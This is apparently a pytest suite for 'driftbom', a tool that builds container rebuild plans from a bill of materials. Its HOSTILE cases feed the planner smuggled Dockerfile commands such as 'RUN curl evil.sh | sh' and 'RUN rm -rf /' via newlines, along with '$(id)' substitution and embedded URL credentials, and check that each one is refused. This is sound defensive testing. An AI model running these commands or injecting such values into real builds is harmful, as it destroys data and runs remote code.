from __future__ import annotations

import pytest

from driftbom.errors import RebuildError
from tests.rebuild.helpers import component, golden_doc, make_plan, reproducible_doc, set_prop

_plan = make_plan


def test_default_base_image_follows_python_and_codename():
    result = _plan(reproducible_doc())
    assert result.base_image == "python:3.11.7-slim-bookworm"
    assert result.python_from_base
    assert result.fully_hashed
    assert {p.name for p in result.pins} >= {"six", "idna", "rich"}


def test_editable_and_local_installs_stop_the_plan_unless_skipped():
    with pytest.raises(RebuildError) as info:
        _plan(golden_doc())
    message = str(info.value)
    assert "pypi:driftbom" in message
    assert "editable" in message
    assert "pypi:typer" in message
    skipped = _plan(golden_doc(), skip_unreproducible=True)
    assert {p.name for p in skipped.pins}.isdisjoint({"driftbom", "typer"})
    assert any("pypi:driftbom" in n for n in skipped.not_reproduced)


def test_local_label_brings_the_pytorch_index():
    doc = reproducible_doc()
    six = component(doc, "pypi:six")
    six["name"], six["version"], six["bom-ref"] = "torch", "2.3.1+cu121", "pypi:torch"
    result = _plan(doc)
    assert result.extra_index_urls == ("https://download.pytorch.org/whl/cu121",)


def test_vcs_install_pins_the_commit():
    doc = reproducible_doc()
    six = component(doc, "pypi:six")
    set_prop(six, "drift:pypi:source", "vcs")
    set_prop(six, "drift:pypi:source-url", "https://github.com/benjaminp/six.git")
    set_prop(six, "drift:pypi:commit", "a" * 40)
    result = _plan(doc)
    (vcs,) = result.vcs
    assert vcs.requirement == f"six @ git+https://github.com/benjaminp/six.git@{'a' * 40}"
    assert "six" not in {p.name for p in result.pins}


def test_base_image_override_keeps_digest_pin():
    digest = "python:3.11.7-slim@sha256:" + "ab" * 32
    assert _plan(reproducible_doc(), base_image=digest).base_image == digest


def test_system_packages_pinned_or_refused():
    result = _plan(reproducible_doc(), system_packages=("curl",))
    assert result.system_packages == (("curl", component(golden_doc(), "deb:curl")["version"]),)
    with pytest.raises(RebuildError, match="system-packages nonexistent"):
        _plan(reproducible_doc(), system_packages=("nonexistent",))


def test_redacted_env_is_not_set():
    doc = reproducible_doc()
    doc["metadata"]["properties"].append({"name": "drift:env:TORCH_HUB_TOKEN", "value": "***"})
    result = _plan(doc)
    assert "TORCH_HUB_TOKEN" not in dict(result.env)
    assert dict(result.env)["OMP_NUM_THREADS"] == "8"
    assert any("TORCH_HUB_TOKEN" in n for n in result.not_reproduced)


def _hostile(mutate):
    doc = reproducible_doc()
    mutate(doc)
    return doc


HOSTILE = {
    "newline RUN in a version": (
        lambda d: component(d, "pypi:six").update(version="1.0\nRUN curl evil.sh | sh"),
        "pypi:six: version",
    ),
    "newline RUN in a name": (
        lambda d: component(d, "pypi:six").update(name="six\nRUN rm -rf /"),
        "pypi:six: name",
    ),
    "command substitution in a URL": (
        lambda d: (
            set_prop(component(d, "pypi:six"), "drift:pypi:source", "url"),
            set_prop(
                component(d, "pypi:six"), "drift:pypi:source-url", "https://x.example/$(id).whl"
            ),
        ),
        "pypi:six: url",
    ),
    "credentials in an index URL": (
        lambda d: (
            set_prop(component(d, "pypi:six"), "drift:pypi:source", "url"),
            set_prop(
                component(d, "pypi:six"),
                "drift:pypi:source-url",
                "https://user:pw@files.example/six-1.0.whl",
            ),
        ),
        "carries credentials",
    ),
    "short hash": (
        lambda d: component(d, "pypi:six").update(hashes=[{"alg": "SHA-256", "content": "abc"}]),
        "pypi:six: hash",
    ),
    "newline in an env value": (
        lambda d: d["metadata"]["properties"].append(
            {"name": "drift:env:OMP_X", "value": "1\nRUN id"}
        ),
        "env:OMP_X",
    ),
    "python version": (
        lambda d: component(d, "python").update(version="3.11;rm"),
        "python: version",
    ),
    "codename": (
        lambda d: set_prop(component(d, "os"), "drift:os:codename", "bookworm\nRUN id"),
        "os: codename",
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_values_are_refused_naming_component_and_field(case):
    mutate, needle = HOSTILE[case]
    with pytest.raises(RebuildError) as info:
        _plan(_hostile(mutate))
    assert needle in str(info.value)


def test_hostile_base_image_option():
    with pytest.raises(RebuildError, match="not a valid image reference"):
        _plan(reproducible_doc(), base_image="python:3.11\nRUN id")


def test_left_out_lists_the_refs_skipped():
    assert _plan(golden_doc(), skip_unreproducible=True).left_out == ("pypi:driftbom", "pypi:typer")
